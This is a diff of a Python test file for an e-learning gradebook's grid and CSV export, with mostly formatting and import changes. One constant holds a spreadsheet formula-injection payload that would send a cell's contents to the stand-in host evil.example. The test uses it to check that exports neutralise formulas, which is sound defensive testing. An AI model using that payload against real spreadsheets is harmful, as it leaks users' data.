@@ -1,4 +1,5 @@
 """Gradebook: the trainee × quiz grid, its filters, and a CSV export that round-trips and cannot run formulas."""
+
 from __future__ import annotations
 
 import csv
@@ -11,19 +12,14 @@ import pytest
 from mesolearn.accounts import Accounts
 from mesolearn.cohorts import CohortError, Cohorts, gradebook, to_csv
 from mesolearn.cohorts.gradebook import COLUMNS, safe_cell
-from mesolearn.content import load_course
 from mesolearn.quiz.attempts import Attempts
+from mesolearn.quiz.grading import correct_response
 from mesolearn.storage import Database
 from tests.conftest import Clock
-from mesolearn.quiz.grading import correct_response
 
 ROOT = Path(__file__).resolve().parents[1]
 T0 = datetime(2030, 3, 1, 9, 0, 0)
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-
-
-
-
 
 
 def take(attempts, user_id, quiz_id, n_correct, seed=1):
@@ -82,14 +78,20 @@ def test_grid_rows_order_statuses_scores_attempts(scenario, course):
     assert [r.quiz_id for r in rows[: len(quiz_ids)]] == quiz_ids
     assert quiz_ids[-1] == "certification" and rows[-1].kind == "exam"
     g = grid(rows)
-    assert {u for u, _ in g} == {"zoe", "yann"}                       # instructors are not in the gradebook
+    assert {u for u, _ in g} == {"zoe", "yann"}  # instructors are not in the gradebook
 
     h = g["zoe", "history"]
     assert (h.status, h.best_score, h.attempts, h.overdue) == ("passed", 100.0, 2, False)
     assert h.assigned and h.due_at == T0 - timedelta(days=1)
     t = g["zoe", "technique"]
     assert (t.status, t.best_score, t.attempts, t.assigned, t.due_at, t.overdue) == (
-        "not passed", 30.0, 1, False, None, False)                    # submitted at 30 %: not "in progress"
+        "not passed",
+        30.0,
+        1,
+        False,
+        None,
+        False,
+    )  # submitted at 30 %: not "in progress"
     assert t.last_activity == scenario["last_zoe"]
     assert g["zoe", "methods"].status == "not started" and g["zoe", "methods"].best_score is None
 
@@ -130,14 +132,19 @@ def test_csv_export_round_trips_and_neutralises_formulas(scenario, course):
     parsed = list(csv.reader(io.StringIO(text, newline="")))
     assert parsed[0] == COLUMNS
     assert len(parsed) == len(rows) + 1
-    body = [dict(zip(parsed[0], r)) for r in parsed[1:]]
+    body = [dict(zip(parsed[0], r, strict=False)) for r in parsed[1:]]
     by_key = {(r["username"], r["quiz_id"]): r for r in body}
     zoe = by_key["zoe", "history"]
     assert (zoe["display_name"], zoe["status"], zoe["best_score"], zoe["attempts"], zoe["overdue"]) == (
-        "Zoé Bernard", "passed", "100", "2", "no")
+        "Zoé Bernard",
+        "passed",
+        "100",
+        "2",
+        "no",
+    )
     assert zoe["due_at"] == (T0 - timedelta(days=1)).strftime("%Y-%m-%d %H:%M")
     yann = by_key["yann", "history"]
-    assert yann["display_name"] == "'" + EVIL                          # quote, comma and formula survive, inert
+    assert yann["display_name"] == "'" + EVIL  # quote, comma and formula survive, inert
     assert yann["overdue"] == "yes" and yann["best_score"] == ""
     assert all(not v.startswith(("=", "+", "-", "@")) for r in parsed for v in r)
 
